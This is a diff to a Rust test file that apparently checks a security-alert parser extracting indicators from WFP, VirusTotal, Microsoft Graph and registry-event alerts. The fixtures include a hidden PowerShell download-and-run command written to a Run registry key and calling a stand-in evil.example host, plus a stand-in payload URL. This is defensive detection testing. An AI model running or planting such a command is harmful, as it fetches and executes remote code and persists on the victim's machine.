@@ -965,14 +965,20 @@ fn every_fixture_is_covered() {
 /// registry values. Shapes as those producers write them.
 #[test]
 fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
-    let cases: &[(&str, &str, &[(&str, Kind, &str)])] = &[
+    // (what, alert, the candidates it must yield: field, kind, value)
+    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, Kind, &'a str)]);
+    let cases: &[Case] = &[
         (
             "Security 5156 (WFP allowed a connection)",
             r#"{"timestamp":"2026-03-02T10:00:00.000+0000","rule":{"id":"60100","level":3,"groups":["windows","windows_security"]},"agent":{"id":"002","name":"ws-02"},
                "data":{"win":{"system":{"eventID":"5156","providerName":"Microsoft-Windows-Security-Auditing"},
                "eventdata":{"processID":"4","application":"\\\\device\\\\harddiskvolume2\\\\windows\\\\system32\\\\svchost.exe","direction":"%%14593",
                "sourceAddress":"10.0.4.17","sourcePort":"50112","destAddress":"198.51.100.14","destPort":"443","protocol":"6","layerName":"%%14611"}}}}"#,
-            &[("data.win.eventdata.destAddress", Kind::Ipv4, "198.51.100.14")],
+            &[(
+                "data.win.eventdata.destAddress",
+                Kind::Ipv4,
+                "198.51.100.14",
+            )],
         ),
         (
             "VirusTotal integration (rule 87105)",
@@ -981,8 +987,16 @@ fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
                "sha1":"3395856ce81f2b7382dee72602f798b642f14140","permalink":"https://www.virustotal.com/gui/file/275a021b/detection",
                "source":{"alert_id":"1700000000.1234","file":"/tmp/eicar.com","md5":"44d88612fea8a8f36de82e1278abb02f","sha1":"3395856ce81f2b7382dee72602f798b642f14140"}}}}"#,
             &[
-                ("data.virustotal.source.sha1", Kind::Sha1, "3395856ce81f2b7382dee72602f798b642f14140"),
-                ("data.virustotal.source.md5", Kind::Md5, "44d88612fea8a8f36de82e1278abb02f"),
+                (
+                    "data.virustotal.source.sha1",
+                    Kind::Sha1,
+                    "3395856ce81f2b7382dee72602f798b642f14140",
+                ),
+                (
+                    "data.virustotal.source.md5",
+                    Kind::Md5,
+                    "44d88612fea8a8f36de82e1278abb02f",
+                ),
             ],
         ),
         (
@@ -994,11 +1008,31 @@ fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
                            {"@odata.type":"#microsoft.graph.security.fileEvidence","fileDetails":{"fileName":"a.exe","sha1":"3395856ce81f2b7382dee72602f798b642f14140","sha256":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}},
                            {"@odata.type":"#microsoft.graph.security.deviceEvidence","ipInterfaces":["192.0.2.31","fe80::1"]}]}}}"##,
             &[
-                ("data.ms-graph.evidence[0].ipAddress", Kind::Ipv4, "203.0.113.77"),
-                ("data.ms-graph.evidence[1].url", Kind::Url, "http://payload.evil.example/a.ps1"),
-                ("data.ms-graph.evidence[2].fileDetails.sha256", Kind::Sha256, "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"),
-                ("data.ms-graph.evidence[2].fileDetails.sha1", Kind::Sha1, "3395856ce81f2b7382dee72602f798b642f14140"),
-                ("data.ms-graph.evidence[3].ipInterfaces[0]", Kind::Ipv4, "192.0.2.31"),
+                (
+                    "data.ms-graph.evidence[0].ipAddress",
+                    Kind::Ipv4,
+                    "203.0.113.77",
+                ),
+                (
+                    "data.ms-graph.evidence[1].url",
+                    Kind::Url,
+                    "http://payload.evil.example/a.ps1",
+                ),
+                (
+                    "data.ms-graph.evidence[2].fileDetails.sha256",
+                    Kind::Sha256,
+                    "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
+                ),
+                (
+                    "data.ms-graph.evidence[2].fileDetails.sha1",
+                    Kind::Sha1,
+                    "3395856ce81f2b7382dee72602f798b642f14140",
+                ),
+                (
+                    "data.ms-graph.evidence[3].ipInterfaces[0]",
+                    Kind::Ipv4,
+                    "192.0.2.31",
+                ),
             ],
         ),
         (
@@ -1007,7 +1041,11 @@ fn fields_of_wfp_virustotal_ms_graph_and_registry_events_are_read() {
                "data":{"win":{"system":{"eventID":"13"},"eventdata":{"eventType":"SetValue","image":"C:\\\\Windows\\\\System32\\\\reg.exe",
                "targetObject":"HKU\\\\S-1-5-21-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd",
                "details":"powershell -w hidden -c iwr http://cradle.evil.example/s.ps1 | iex"}}}}"#,
-            &[("data.win.eventdata.details", Kind::Url, "http://cradle.evil.example/s.ps1")],
+            &[(
+                "data.win.eventdata.details",
+                Kind::Url,
+                "http://cradle.evil.example/s.ps1",
+            )],
         ),
     ];
     for (what, alert, want) in cases {
